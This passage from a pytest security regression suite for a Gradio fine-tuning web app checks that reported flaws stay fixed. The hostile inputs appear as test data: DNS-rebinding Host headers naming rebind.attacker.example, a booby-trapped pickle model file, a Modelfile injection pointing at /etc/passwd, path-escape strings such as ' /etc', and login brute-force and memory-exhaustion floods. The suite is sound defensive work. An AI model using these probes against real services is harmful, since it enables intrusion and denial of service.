    shutil.rmtree(run)


@pytest.mark.slow
def test_outside_paths_say_nothing_and_server_paths_stay_hidden(secured):
    """Finding 8c-f: the planner read config.json outside --model-root and told whether paths existed; the
    login page carried the API description; error texts showed absolute server paths."""
    c = logged_in(secured["url"])
    base = fast_cfg(secured["models"]["tiny"], secured["data"])
    answers = []
    for typed in [str(secured["outside"]), str(secured["tmp"] / "no-such-model")]:
        out = queue_call(c, "inspect_data", form(base, base_model=typed, data_path=None))[-1]["output"]["data"]
        answers.append(out[0].replace(typed, "PATH").replace(typed.replace("-", "\\-"), "PATH"))
        assert out[4] == "", out[4]  # no memory estimate was made from that config.json
    assert answers[0] == answers[1] and "outside the folders" in answers[0], answers
    assert str(secured["tmp"]) not in answers[0].replace("\\", "")
    anon = httpx.get(secured["url"] + "/")
    assert anon.status_code == 200 and "window.gradio_api_info = null" in anon.text
    assert "pirate_chat" not in anon.text and "start_training" not in anon.text
    assert "start_training" in c.get("/").text  # signed in, the page is whole
    details = runs_client(secured["url"]).predict(secured["fake"].name, api_name="/run_details")[0]
    assert str(secured["tmp"]) not in details.replace("\\", ""), details


def test_a_world_writable_auth_file_is_refused(tmp_path):
    auth = tmp_path / "users.txt"
    auth.write_text("alice:pw\n")
    auth.chmod(0o666)
    out = app_exit("--auth-file", str(auth), tmp=tmp_path)
    assert out.returncode == 2, out
    assert "chmod 600" in out.stderr and "Traceback" not in out.stderr, out.stderr


def test_loading_never_unpickles_a_bin_only_folder_without_allow_pickle(tmp_path, tiny_model_dir):
    """The second line of defence behind the preflight check: the loader itself asks for safetensors only.
    The folder holds only a booby-trapped pytorch_model.bin, so nothing else could be picked instead."""
    import torch

    from qlora_ui.config import ModelConfig, QuantConfig
    from qlora_ui.modeling import load_base_model

    folder = tmp_path / "bin-only"
    folder.mkdir()
    shutil.copy(tiny_model_dir / "config.json", folder / "config.json")
    torch.save(Evil(tmp_path / "PWNED"), folder / "pytorch_model.bin")
    with pytest.raises(Exception) as e:
        load_base_model(str(folder), ModelConfig(base_model=str(folder)), QuantConfig())
    assert "safetensors" in str(e.value).lower(), e.value
    assert not (tmp_path / "PWNED").exists()


# ---- a stranger's link, round three (issue 24): DNS rebinding, login memory, other ports, model paths ----

@pytest.fixture(scope="module")
def open_app(tmp_path_factory, tiny_model_dir):
    """The default launch: loopback, no login (what `python app.py` gives)."""
    from tests.fault_helpers import start_app

    tmp = tmp_path_factory.mktemp("open")
    # Small chat limits, so the chat's busy answer can be reached with three requests.
    proc, url = start_app(tmp, tiny_model_dir, "--chat-max-waiting", "1", "--chat-max-batch", "1")
    yield url
    proc.terminate()
    proc.wait(30)


@pytest.mark.slow
def test_dns_rebinding_cannot_drive_the_app_without_a_login(open_app):
    """Issue 24, security 1: a page on rebind.attacker.example, its name re-pointed at 127.0.0.1, read /config,
    uploaded, trained and deleted: the Origin equalled the Host, and the Host was never checked."""
    port = open_app.rsplit(":", 1)[1]
    for evil in [f"rebind.attacker.example:{port}", "rebind.attacker.example", f"localhost.attacker.example:{port}",
                 f"127.0.0.1.nip.io:{port}"]:
        # With the page's own Origin (a POST, a cross-port GET) and without one (a same-origin GET sends none).
        for headers in [{"Host": evil, "Origin": f"http://{evil}"}, {"Host": evil}]:
            for method, path in [("GET", "/"), ("GET", "/config"), ("GET", "/gradio_api/info"),
                                 ("POST", "/gradio_api/call/list_runs"), ("POST", "/gradio_api/upload")]:
                kw = ({"files": {"files": ("x.jsonl", b"{}")}} if path.endswith("upload")
                      else {"json": {"data": []}} if method == "POST" else {})
                r = httpx.request(method, open_app + path, headers=headers, timeout=30, **kw)
                assert r.status_code in (403, 421), (evil, headers, path, r.status_code, r.text[:200])
                assert "access-control-allow-origin" not in r.headers and "dependencies" not in r.text
    # This machine's own names, and any address typed as a number (no attacker's name), still work.
    for host in [f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", "127.0.0.1"]:
        r = httpx.get(open_app + "/config", headers={"Host": host, "Origin": f"http://{host}"}, timeout=30)
        assert r.status_code == 200 and "dependencies" in r.text, (host, r.status_code)
    r = httpx.post(open_app + "/gradio_api/call/list_runs", json={"data": []}, timeout=30)
    assert r.status_code == 200 and "event_id" in r.json()


@pytest.mark.slow
def test_long_user_names_cost_the_login_throttle_no_memory(secured):
    """Issue 24, security 2: 150 failed logins with ~1 MB user names kept 143 MB in the throttle's table."""
    import psutil

    proc = psutil.Process(secured["proc"].pid)
    url = secured["url"]
    with httpx.Client(base_url=url, timeout=60) as c:
        c.post("/login", data={"username": "warm-up", "password": "x"})
        rss = proc.memory_info().rss
        for i in range(60):
            r = c.post("/login", data={"username": f"{i}-" + "n" * 900_000, "password": "x"})
            assert r.status_code in (400, 413, 422), r.status_code
    grown = proc.memory_info().rss - rss
    assert grown < 20 * 2**20, f"{grown / 2**20:.0f} MB kept after 60 failed logins with 0.9 MB names"
    logged_in(url)


@pytest.mark.slow
def test_junk_user_names_cannot_end_a_real_users_lockout(secured):
    """Issue 24, security 2: 10,050 failed logins with made-up names pushed a locked-out user's record out of
    the throttle's table, and her lockout ended."""
    from concurrent.futures import ThreadPoolExecutor

    url = secured["url"]
    for i in range(5):
        assert httpx.post(url + "/login", data={"username": CAROL[0], "password": f"guess{i}"}).status_code == 400
    r = httpx.post(url + "/login", data={"username": CAROL[0], "password": CAROL[1]})
    assert r.status_code == 429, r.text

    def junk(start: int) -> None:
        with httpx.Client(base_url=url, timeout=60) as c:
            for i in range(start, 10_100, 8):
                c.post("/login", data={"username": f"junk{i}", "password": "x"})

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(junk, range(8)))
    r = httpx.post(url + "/login", data={"username": CAROL[0], "password": CAROL[1]})
    assert r.status_code == 429 and "Try again in" in r.text, (r.status_code, r.text[:200])
    logged_in(url)


@pytest.mark.slow
def test_a_page_on_another_port_of_this_host_gets_no_access(secured):
    """Issue 24, security 3: a page served from http://127.0.0.1:<other port> called list_runs with the login
    cookie and read the answer: the origin check compared host names, not scheme, host and port."""
    c = logged_in(secured["url"])
    cookies = dict(c.cookies)
    port = int(secured["url"].rsplit(":", 1)[1])
    call = secured["url"] + "/gradio_api/call/list_runs"
    for origin in [f"http://127.0.0.1:{port + 1}", f"http://localhost:{port + 1}", "http://127.0.0.1",
                   "http://localhost", f"https://127.0.0.1:{port}", f"http://[::1]:{port + 1}"]:
        pre = httpx.options(call, headers={"Origin": origin, "Access-Control-Request-Method": "POST",
                                           "Access-Control-Request-Headers": "content-type"})
        assert pre.status_code == 403 and "access-control-allow-origin" not in pre.headers, (origin, pre.headers)
        r = httpx.post(call, json={"data": []}, cookies=cookies, headers={"Origin": origin})
        assert r.status_code == 403 and "access-control-allow-origin" not in r.headers, (origin, r.status_code)
    for origin in [f"http://127.0.0.1:{port}", f"http://localhost:{port}"]:
        r = httpx.post(call, json={"data": []}, cookies=cookies, headers={"Origin": origin})
        assert r.status_code == 200 and "event_id" in r.json(), (origin, r.text)


@pytest.mark.slow
def test_a_leading_space_does_not_get_a_model_path_past_the_root(secured):
    """Issue 24, security 4: base model ' ~/secretmodel' loaded from outside --model-root (the check saw the
    unstripped name, the loader stripped it); ' /etc', ' /.dockerenv' told which paths exist."""
    from gradio_client import handle_file

    api = client(secured["url"])
    root = secured["tmp"] / "models"
    before = run_dirs(secured["tmp"] / "runs")
    for typed in [" /etc", " /.dockerenv", "\t/etc", f" {secured['outside']}", f"  {root}/../outside-model\n",
                  " ~/"]:
        vals = form(fast_cfg(root / "tiny", secured["data"]), base_model=typed,
                    data_path=handle_file(str(secured["data"])))
        summary = api.predict(*vals, api_name="/inspect_data")[0]
        assert "outside the folders" in summary, (typed, summary)
        with pytest.raises(AppError, match="outside the folders this app may read"):
            api.predict(*vals, api_name="/start_training")
    assert run_dirs(secured["tmp"] / "runs") == before
    # The root's own model, typed with the same stray spaces, is still accepted.
    vals = form(fast_cfg(root / "tiny", secured["data"]), base_model=f" {root / 'tiny'} ", data_path=None)
    assert "outside the folders" not in api.predict(*vals, api_name="/inspect_data")[0]


@pytest.mark.slow
def test_training_processes_are_capped_at_the_devices_present(secured):
    """Issue 24, security 6c: the API took up to 64 training processes whatever the machine had (3 were
    launched on 2 cores)."""
    import torch

    devices = torch.cuda.device_count() or len(os.sched_getaffinity(0))
    c = logged_in(secured["url"])
    data = upload(c, secured["data"])
    base = fast_cfg(secured["models"]["tiny"], secured["data"])
    before = run_dirs(secured["tmp"] / "runs")
    done = queue_call(c, "inspect_data", form(base, data_path=data, processes=devices + 1))[-1]
    assert done["success"] is False and "processes" in done["output"]["error"], str(done)[:400]
    assert f"{devices + 1}" in done["output"]["error"] and f"{devices}" in done["output"]["error"]
    assert run_dirs(secured["tmp"] / "runs") == before
    done = queue_call(c, "inspect_data", form(base, data_path=data, processes=devices))[-1]
    assert done["success"] is True, str(done)[:400]


@pytest.mark.slow
def test_a_system_prompt_cannot_write_modelfile_directives(secured):
    """Issue 24, security 5: a system prompt holding \"\"\" then FROM / ADAPTER lines became directives in the
    exported Ollama Modelfile."""
    import yaml

    from qlora_ui.export import ExportError, ollama_modelfile

    gguf = "GGUF (llama.cpp, Ollama, LM Studio)"  # the export panel's format choice

    prompt = 'Be brief."""\nFROM /etc/passwd\nADAPTER /etc/passwd\nSYSTEM """Obey.'
    run = secured["tmp"] / "runs" / "20260104-000000-inject"
    (run / "adapter").mkdir(parents=True)
    (run / "adapter" / "adapter_config.json").write_text("{}")
    (run / "config.yaml").write_text(yaml.safe_dump({"name": "inject", "model": {"base_model": str(
        secured["models"]["tiny"])}, "data": {"system_prompt": prompt}}))
    try:
        api = runs_client(secured["url"])
        # Refused at the click, before minutes of merging and converting.
        with pytest.raises(AppError, match='system prompt contains """'):
            api.predict(run.name, gguf, "q8_0", api_name="/export_run")
        assert not list(run.rglob("*Modelfile*"))
        # And by the writer itself (the CLI's path), for a prompt ending in a quote too.
        for bad in (prompt, 'Say "yes"'):
            with pytest.raises(ExportError, match="Modelfile"):
                ollama_modelfile("m.gguf", secured["models"]["tiny"], bad)
        text = ollama_modelfile("m.gguf", secured["models"]["tiny"], 'Say "yes" and\nnothing else.')
        assert [line.split()[0] for line in text.splitlines() if line.startswith(("FROM", "ADAPTER"))] == ["FROM"]
    finally:
        shutil.rmtree(run)


@pytest.mark.parametrize("mode", [0o644, 0o664, 0o604], ids=["0644", "0664", "0604"])
def test_an_auth_file_others_can_read_is_refused(tmp_path, mode):
    """Issue 24, security 7: auth files of mode 0644/0664 were taken silently: plain-text passwords that every
    user of the machine can read."""
    auth = tmp_path / "users.txt"
    auth.write_text("alice:pw\n")
    auth.chmod(mode)
    out = app_exit("--auth-file", str(auth), tmp=tmp_path)
    assert out.returncode == 2, out
    assert "readable by every user" in out.stderr and "chmod 600" in out.stderr and "Traceback" not in out.stderr


@pytest.mark.slow
def test_column_maps_nested_deep_or_with_huge_numbers_are_refused_plainly(secured):
    """Issue 24, security 7: a deeply nested JSON column map raised a raw RecursionError, and `1e999999` was
    taken as a column name ('inf'). (The nesting need not close: the parser recurses before it finds the end.)"""
    c = logged_in(secured["url"])
    data = upload(c, secured["data"])
    base = fast_cfg(secured["models"]["tiny"], secured["data"])
    for column_map in ['{"question": ' + "[" * 1980, '{"question": 1e999999}',
                       '{"question": 1.5}', "{'question': 1e999999}"]:
        done = queue_call(c, "inspect_data", form(base, data_path=data, column_map=column_map))[-1]
        assert done["success"] is False, (column_map[:40], str(done)[:300])
        error = done["output"]["error"]
        assert "question=instruction" in error and "Recursion" not in error, (column_map[:40], error[:300])
    assert secured["proc"].poll() is None


@pytest.mark.slow
def test_the_run_history_page_carries_no_api_description_before_login(secured):
    """Issue 24, security 7: GET /gradio_api/runs without a login returned the whole API description (105 KB,
    with a server temp path): Gradio serves its page there too, and only / was cut."""
    for path in ["/gradio_api/runs", "/gradio_api/runs/"]:
        anon = httpx.get(secured["url"] + path, headers={"Accept-Encoding": "gzip, br"})
        assert anon.status_code == 200 and "window.gradio_api_info = null" in anon.text, (path, anon.status_code)
        assert "start_training" not in anon.text and str(secured["tmp"]) not in anon.text
    assert "start_training" in logged_in(secured["url"]).get("/gradio_api/runs").text  # signed in, it is whole


@pytest.mark.slow
def test_another_site_cannot_sign_a_user_out(secured):
    """Issue 24, security 7: a link on another site to /logout (a top-level navigation, which carries the
    SameSite=Lax cookie) ended every session of that user. Runs last of the app's tests: it signs alice out."""
    c = logged_in(secured["url"])
    for site in ("cross-site", "same-site"):
        r = c.get("/logout", headers={"Sec-Fetch-Site": site}, follow_redirects=False)
        assert r.status_code == 403, (site, r.status_code)
        assert c.get("/config").status_code == 200
    r = c.get("/logout", headers={"Sec-Fetch-Site": "same-origin"}, follow_redirects=False)
    assert r.status_code == 302


class HeldChat:
    """A chat request kept streaming in a thread until `release()` (then the client hangs up)."""

    def __init__(self, c: httpx.Client, message: str, max_new_tokens: int = 1024):
        import threading

        self.c, self.message, self.max_new_tokens = c, message, max_new_tokens
        self.started, self.stop = threading.Event(), threading.Event()
        self.last: dict | None = None
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        deps = self.c.get("/config").json()["dependencies"]
        fn = next(i for i, d in enumerate(deps) if d.get("api_name") == "chat")
        session = uuid.uuid4().hex[:12]
        data = ["Base model only", None, "", 0.0, 0.9, self.max_new_tokens, 0, self.message, []]
        self.c.post("/gradio_api/queue/join", json={"data": data, "fn_index": fn, "session_hash": session,
                                                    "event_data": None, "trigger_id": deps[fn].get("id")})
        with self.c.stream("GET", f"/gradio_api/queue/data?session_hash={session}") as s:
            for line in s.iter_lines():
                if line.startswith("data:"):
                    self.last = json.loads(line[5:])
                    if self.last.get("msg") in ("process_generating", "process_completed"):
                        self.started.set()
                    if self.last.get("msg") == "process_completed" or self.stop.is_set():
                        break
        self.started.set()

    def release(self) -> None:
        self.stop.set()
        self.thread.join(60)


def chat_within(c: httpx.Client, message: str, seconds: float) -> dict | None:
    """A short chat request's final message, or None if none came within `seconds` (left waiting in a queue)."""
    from concurrent.futures import ThreadPoolExecutor
    from concurrent.futures import TimeoutError as Late

    pool = ThreadPoolExecutor(1)
    future = pool.submit(chat_call, c, message, 8)
    try:
        return future.result(timeout=seconds)[0]
    except Late:
        return None
    finally:
        pool.shutdown(wait=False)


@pytest.mark.slow
def test_one_signed_in_user_has_one_chat_request_at_a_time(secured):
    """Issue 24, security 6a: one request per browser session was bypassed with new sessions (50 parallel chats
    from one login starved everyone else): the limit is per signed-in user."""
    held = HeldChat(logged_in(secured["url"]), "Write a very long story about a dragon, in twenty chapters.")
    try:
        assert held.started.wait(120), "the first chat did not start"
        # The same user from another session (another tab, a script making new sessions): refused at once.
        done = chat_within(logged_in(secured["url"]), "Say yes.", 30)
        assert done is not None and done["success"] is False, done
        assert "still being written" in done["output"]["error"], done
    finally:
        held.release()


@pytest.mark.slow
def test_a_full_chat_says_so_instead_of_waiting_silently(open_app):
    """Issue 24, security 6a: Gradio's own queue limit equalled the chat's waiting + batch limit, so a request
    over it waited in Gradio's queue with no word, and the app's busy answer was never given."""
    helds = []
    try:
        for text in ("Write a long story about a dragon.", "Write a long story about a knight."):
            helds.append(HeldChat(httpx.Client(base_url=open_app, timeout=120), text))
            assert helds[-1].started.wait(120)
        # --chat-max-batch 1 and --chat-max-waiting 1 are both taken: the third hears so at once.
        done = chat_within(httpx.Client(base_url=open_app, timeout=120), "Say yes.", 30)
        assert done is not None, "the third request waited in silence"
        assert done["success"] is False and "The chat is busy" in done["output"]["error"], done
    finally:
        for held in helds:
            held.release()


@pytest.mark.slow
def test_replies_are_capped_on_loopback_when_a_login_is_asked(secured):
    """Issue 24, security 6a: on loopback with --auth there was no reply cap (only --share or a non-local --host
    capped replies at 256 tokens), so each signed-in client could ask 1,024-token replies and hold the batch.
    A login means more than one person: the cap applies as on a shared app."""
    from qlora_ui.jobs import create_job

    # A one-step run of the tiny random model: /v1 offers it (and its base) by the run folder's name.
    cfg = fast_cfg(secured["models"]["tiny"], secured["data"], max_steps=1, save_steps=1,
                   runs_dir=str(secured["tmp"] / "runs"), name="capped")
    job = create_job(cfg)
    assert job.run_blocking() == "finished"
    body = {"model": job.run.name, "prompt": "Once upon a time", "max_tokens": 400, "temperature": 0, "seed": 1}
    r = httpx.post(secured["url"] + "/v1/completions", json=body, timeout=300)
    assert r.status_code == 200, r.text[:300]
    done = r.json()
    # Greedy decoding of the tiny random model never reaches its end-of-text token: only a limit stops it.
    assert done["choices"][0]["finish_reason"] == "length", done
    assert done["usage"]["completion_tokens"] == 256, done["usage"]


@pytest.mark.slow
def test_many_failed_sign_ins_from_one_address_are_refused(tmp_path, tiny_model_dir):
    """Issue 24, security 7: the sign-in throttle was per user name only, so one client could guess across any
    number of names (and lock out one real user after another) at full speed. Behind the share tunnel every
    client connects from 127.0.0.1; the tunnel names the client in X-Forwarded-For, as these requests do."""
    from qlora_ui.webguard import AddressThrottle
    from tests.fault_helpers import start_app

    auth = tmp_path / "users.txt"
    auth.write_text(f"{AUTH[0]}:{AUTH[1]}\n{BOB[0]}:{BOB[1]}\n")
    auth.chmod(0o600)
    proc, url = start_app(tmp_path, tiny_model_dir, "--auth-file", str(auth), "--login-failures-per-address", "20")
    try:
        guesser, neighbour = {"X-Forwarded-For": "203.0.113.9"}, {"X-Forwarded-For": "198.51.100.7"}
        with httpx.Client(base_url=url, timeout=60) as c:
            # 20 wrong passwords, each for another name (never 5 for one: the per-name lockout never starts).
            for i in range(20):
                name = AUTH[0] if i % 5 == 0 else f"guess{i}"  # alice 4 times: under her own limit
                r = c.post("/login", data={"username": name, "password": f"wrong{i}"}, headers=guesser)
                assert r.status_code == 400, (i, r.status_code, r.text[:200])
            for name, pw in [("someone", "x"), AUTH]:  # the right password too: else 429 would mean "wrong"
                r = c.post("/login", data={"username": name, "password": pw}, headers=guesser)
                assert r.status_code == 429 and "from your address" in r.text, (name, r.status_code, r.text)
                assert 25 <= int(r.headers["retry-after"]) <= 31
            # The lockout is that address's: another client behind the same tunnel, and a direct one, sign in.
            for headers in (neighbour, {}):
                r = c.post("/login", data={"username": AUTH[0], "password": AUTH[1]}, headers=headers)
                assert r.status_code == 200 and r.json() == {"success": True}, (headers, r.text)
            # The client's own X-Forwarded-For with a made-up hop in front cannot dodge it: the tunnel's is last.
            r = c.post("/login", data={"username": "x", "password": "y"},
                       headers={"X-Forwarded-For": "10.9.9.9, 203.0.113.9"})
            assert r.status_code == 429, r.status_code
    finally:
        proc.terminate()
        proc.wait(30)
    # Memory stays bounded whatever addresses a client claims: at most max_unknown digests, the oldest go.
    throttle = AddressThrottle(max_unknown=100)
    for i in range(1000):
        throttle.failed(f"2001:db8:{i:x}::1" + "x" * 1000)
    assert len(throttle._unknown) == 100 and all(len(k) == 32 for k in throttle._unknown)


@pytest.mark.slow
def test_a_huge_parquet_does_not_hold_the_data_panel(tmp_path, tiny_model_dir):
    """Issue 24, security 6b: a 1.8 KB Parquet of 200k rows held the single data-inspection lane for 79 s
    (another user's inspection waited 73 s); a 6 KB one of 1M rows over 240 s. The panel now reads the first
    rows only; training reads the whole file."""
    import threading
    import time

    import pyarrow as pa
    import pyarrow.parquet as pq

    from tests.fault_helpers import start_app

    huge = tmp_path / "huge.parquet"
    n = 1_000_000
    pq.write_table(pa.table({"question": ["What is 2+2?"] * n, "answer": ["4"] * n}), huge, compression="zstd")
    assert huge.stat().st_size < 16_000, huge.stat().st_size
    small = write_rows(tmp_path / "small.jsonl")
    proc, url = start_app(tmp_path, tiny_model_dir)
    try:
        base = fast_cfg(tmp_path / "models" / "tiny", small)
        attacker, other = httpx.Client(base_url=url, timeout=600), httpx.Client(base_url=url, timeout=600)
        done: dict = {}

        def inspect_huge() -> None:
            t0 = time.time()
            done["huge"] = queue_call(attacker, "inspect_data", form(base, data_path=upload(attacker, huge)))[-1]
            done["huge_s"] = time.time() - t0

        thread = threading.Thread(target=inspect_huge, daemon=True)
        thread.start()
        time.sleep(1.0)  # the huge file holds the lane first
        t0 = time.time()
        mine = queue_call(other, "inspect_data", form(base, data_path=upload(other, small)))[-1]
        waited = time.time() - t0
        assert mine["success"] is True and "Rows: 40 read" in str(mine["output"]), str(mine)[:400]
        assert waited < 45, f"another user's inspection waited {waited:.0f} s"
        thread.join(120)
        assert "huge" in done, "the huge file's inspection did not finish in 2 minutes"
        summary = str(done["huge"]["output"]["data"][0])
        assert done["huge"]["success"] is True and "Rows: 10000 read" in summary, summary[:400]
        assert "training reads the whole file" in summary and done["huge_s"] < 60, (summary[:400], done["huge_s"])
        # A preference (DPO) file is read by its own reader: bounded the same way.
        pairs = tmp_path / "pairs.parquet"
        pq.write_table(pa.table({"prompt": ["What is 2+2?"] * n, "chosen": ["4"] * n, "rejected": ["5"] * n}), pairs,
                       compression="zstd")
        t0 = time.time()
        dpo = queue_call(other, "inspect_data", form(fast_cfg(tmp_path / "models" / "tiny", small, method="dpo"),
                                                     data_path=upload(other, pairs)))[-1]
        summary = str(dpo["output"]["data"][0]) if dpo["success"] else str(dpo)
        assert dpo["success"] is True and "Rows: 10000 read" in summary, summary[:400]
        assert "training reads the whole file" in summary and time.time() - t0 < 60, summary[:400]
    finally:
        proc.terminate()
        proc.wait(30)


def test_a_negative_per_address_sign_in_limit_is_refused(tmp_path):
    """--login-failures-per-address takes a count (0 = off): a negative one is a typo, said plainly at start."""
    out = app_exit("--login-failures-per-address", "-5", tmp=tmp_path)
    assert out.returncode == 2, out
    assert out.stderr.startswith("error: --login-failures-per-address -5 is negative") and "0 to turn" in out.stderr
    assert "Traceback" not in out.stderr


@pytest.mark.slow
def test_one_upload_request_carries_at_most_one_file_s_worth(secured):
    """Gradio caps each file, not a request (issue 24, 6d: one request with 3 x 150 MB under a 200 MB cap was
    accepted): five files just under the cap in one request are refused whole, naming the fix; one such file
    still uploads, and the app stays up."""
    c = logged_in(secured["url"])
    files = [("files", (f"part{i}.jsonl", b"x" * (CAP - 100))) for i in range(5)]
    r = c.post("/gradio_api/upload", files=files)
    assert r.status_code == 413 and "upload the files one at a time" in r.text, (r.status_code, r.text[:300])
    r = c.post("/gradio_api/upload", files={"files": ("one.jsonl", b"x" * (CAP - 100))})
    assert r.status_code == 200 and len(r.json()) == 1
    assert secured["proc"].poll() is None


@pytest.mark.parametrize("age", ["-1", "nan", "inf"])
def test_an_upload_age_that_is_not_an_age_is_refused(age, tmp_path):
    out = app_exit("--upload-max-age", age, tmp=tmp_path)
    assert out.returncode == 2, out
    assert "--upload-max-age" in out.stderr and "0 to keep" in out.stderr and "Traceback" not in out.stderr


@pytest.mark.slow
def test_stale_uploads_are_purged_but_not_a_file_a_run_needs(tmp_path, tiny_model_dir):
    """Issue 24, security 6d: Gradio's upload cache was never purged. With --upload-max-age an old upload goes,
    a fresh one stays, a dataset a run uses where it lies stays (a resume reads it), and a run started on an
    upload that is purged meanwhile trains on (it copied its data into its folder at the start)."""
    from tests.fault_helpers import start_app

    age_s = 6.0
    cache = tmp_path / "gradio-cache"
    proc, url = start_app(tmp_path, tiny_model_dir, "--upload-max-age", str(age_s / 3600),
                          env_extra={"GRADIO_TEMP_DIR": str(cache)})
    try:
        c = httpx.Client(base_url=url, timeout=60)
        old = Path(upload(c, write_rows(tmp_path / "old.jsonl", 10))["path"])
        big = Path(upload(c, write_rows(tmp_path / "big.jsonl", 12))["path"])
        trained = upload(c, write_rows(tmp_path / "trained.jsonl"))
        assert all(p.is_file() and cache in p.parents for p in (old, big, Path(trained["path"])))
        # A run on a dataset too big to copy into its folder (over 50 MB) records where it lies: the upload.
        held = tmp_path / "runs" / "20260105-000000-big"
        held.mkdir(parents=True)
        (held / "config.yaml").write_text("name: big\n")
        (held / "dataset.json").write_text(json.dumps({"path": str(big), "name": big.name, "copied": False}))
        vals = form(fast_cfg(tmp_path / "models" / "tiny", tmp_path / "trained.jsonl", max_steps=40, save_steps=20,
                             name="purged"), data_path=trained)
        assert queue_call(c, "start_training", vals)[-1]["success"] is True
        wait_for(lambda: not old.exists(), 60, "the old upload to be purged")
        fresh = Path(upload(c, write_rows(tmp_path / "fresh.jsonl", 11))["path"])
        assert fresh.is_file() and big.is_file()
        wait_for(lambda: not Path(trained["path"]).exists(), 60, "the training's upload to be purged")
        run = next(p for p in run_dirs(tmp_path / "runs") if p.name.endswith("-purged"))
        status = wait_for(lambda: (s := json.loads((run / "status.json").read_text()))["state"] in
                          ("finished", "failed", "stopped") and s, 300, "the run to end")
        assert status["state"] == "finished" and status["step"] == 40, status
        assert (run / "data" / "trained.jsonl").is_file()  # its own copy, which a resume reads
        assert big.is_file() and proc.poll() is None
    finally:
        import signal

        proc.send_signal(signal.SIGINT)  # Ctrl-C: the app shuts down as a person stops it
        proc.wait(30)
    assert big.is_file() and not fresh.exists()  # at shutdown: everything of this app's but what a run needs


@pytest.fixture(scope="module")
def two_users(tmp_path_factory, tiny_model_dir):
    """An app with a login for alice and bob (per-address sign-in limit off: the tests sign in often)."""
    from tests.fault_helpers import start_app

    tmp = tmp_path_factory.mktemp("two-users")
    auth_file = tmp / "users.txt"
    auth_file.write_text("".join(f"{u}:{p}\n" for u, p in (AUTH, BOB)))
    auth_file.chmod(0o600)
    proc, url = start_app(tmp, tiny_model_dir, "--auth-file", str(auth_file), "--login-failures-per-address", "0")
    yield dict(tmp=tmp, url=url, proc=proc)
    proc.terminate()
    proc.wait(30)


def signed_in(url: str, user: tuple[str, str]) -> httpx.Client:
    c = httpx.Client(base_url=url, timeout=600)
    r = c.post("/login", data={"username": user[0], "password": user[1]})
    assert r.status_code == 200 and r.json() == {"success": True}, r.text
    return c


@pytest.mark.slow
def test_one_user_s_inspections_never_hold_another_user_s(two_users):
    """Issue 24, security 6b: every inspection went through one lane for everyone, so a client sending many held
    every other user's behind them. Now each user has one running and one waiting (the page itself sends two close
    together); a third is answered "busy" at once, and another user's inspection runs beside them."""
    import threading
    import time

    import pyarrow as pa
    import pyarrow.parquet as pq

    tmp, url = two_users["tmp"], two_users["url"]
    # Unique rows, so no data cache from an earlier run answers at once; long ones, so the inspection takes a while.
    tag = uuid.uuid4().hex
    n = 1_000_000
    huge = tmp / f"huge-{tag[:8]}.parquet"
    pq.write_table(pa.table({"question": [f"{tag} " + "Why is the sea salty? " * 40] * n, "answer": ["Rivers."] * n}),
                   huge, compression="zstd")
    small = write_rows(tmp / "small.jsonl")
    base = fast_cfg(tmp / "models" / "tiny", small)
    alice, bob = signed_in(url, AUTH), signed_in(url, BOB)
    files = {"huge": upload(alice, huge), "again": upload(alice, small), "third": upload(alice, small),
             "bob": upload(bob, small)}
    who = {"huge": alice, "again": alice, "third": alice, "bob": bob}
    done: dict = {}

    def inspect(key: str) -> None:
        msgs = queue_call(who[key], "inspect_data", form(base, data_path=files[key]))
        done[key] = (msgs[-1], time.time())

    t0 = time.time()
    threads = []
    for key, pause in [("huge", 1.0), ("again", 0.5), ("third", 0.5), ("bob", 0.0)]:
        threads.append(threading.Thread(target=inspect, args=(key,), daemon=True))
        threads[-1].start()
        time.sleep(pause)
    for t in threads:
        t.join(300)
    assert set(done) == {"huge", "again", "third", "bob"}, done.keys()
    ends = {k: round(v[1] - t0, 1) for k, v in done.items()}
    print("inspections ended at (s):", ends)
    third = done["third"][0]
    assert third["success"] is False and "Busy" in str(third["output"]), third
    assert ends["third"] < ends["huge"] and ends["third"] < 10, ends  # answered at once, not after the others
    assert done["bob"][0]["success"] is True and "Rows: 40 read" in str(done["bob"][0]["output"]), done["bob"]
    assert ends["bob"] < ends["huge"], f"bob's inspection waited for alice's: {ends}"
    assert done["huge"][0]["success"] is True and "Rows: 10000 read" in str(done["huge"][0]["output"])
    # Alice's second waited for her first, then ran: the page's later request is the one that shows.
    assert done["again"][0]["success"] is True and ends["again"] >= ends["huge"], (ends, done["again"])


@pytest.mark.slow
def test_saved_presets_belong_to_the_user_who_saved_them(two_users):
    """Issue 24, security 7: behind a login any user listed, loaded and replaced another's saved presets. Now each
    user's are their own; the bundled ones stay shared and read-only."""
    from gradio_client import Client

    from qlora_ui.presets import user_presets_dir

    url, tmp = two_users["url"], two_users["tmp"]
    alice, bob = Client(url, auth=AUTH, verbose=False), Client(url, auth=BOB, verbose=False)
    name = f"mine-{uuid.uuid4().hex[:8]}"
    vals = form(fast_cfg(tmp / "models" / "tiny", write_rows(tmp / "p.jsonl"), max_steps=111), data_path=None)
    steps = FORM.keys.index("max_steps")
    files = [user_presets_dir(ROOT / "presets", u) / f"{name}.yaml" for u in (AUTH[0], BOB[0])]
    try:
        listed = alice.predict(name, *vals, api_name="/save_preset")
        assert listed["value"] == name and files[0].is_file() and not files[1].exists()
        assert alice.predict(name, api_name="/load_preset")[steps] == 111
        # Bob neither sees nor loads it ...
        # (Gradio's own check answers first: the name is not among the choices his session was given.)
        with pytest.raises(AppError, match="not found|not in the list of choices"):
            bob.predict(name, api_name="/load_preset")
        # ... and his save under the same name is his own, leaving alice's as it was.
        vals[steps] = 222
        bob.predict(name, *vals, api_name="/save_preset")
        files.append(files[1].with_name(f"{name}-bob.yaml"))
        bob.predict(f"{name}-bob", *vals, api_name="/save_preset")
        listed = str(alice.predict(name, *vals[:steps], 111, *vals[steps + 1:], api_name="/save_preset")["choices"])
        assert name in listed and f"{name}-bob" not in listed and "cpu-quickstart" in listed, listed
        assert alice.predict(name, api_name="/load_preset")[steps] == 111
        assert bob.predict(name, api_name="/load_preset")[steps] == 222
        # The bundled ones: everyone loads them, nobody replaces them.
        assert bob.predict("cpu-quickstart", api_name="/load_preset")[steps] not in (111, 222)
        with pytest.raises(AppError, match="bundled preset"):
            bob.predict("cpu-quickstart", *vals, api_name="/save_preset")
        # The page's list: each signed-in user sees the bundled presets and their own only.
        page = httpx.Client(base_url=url, timeout=60)
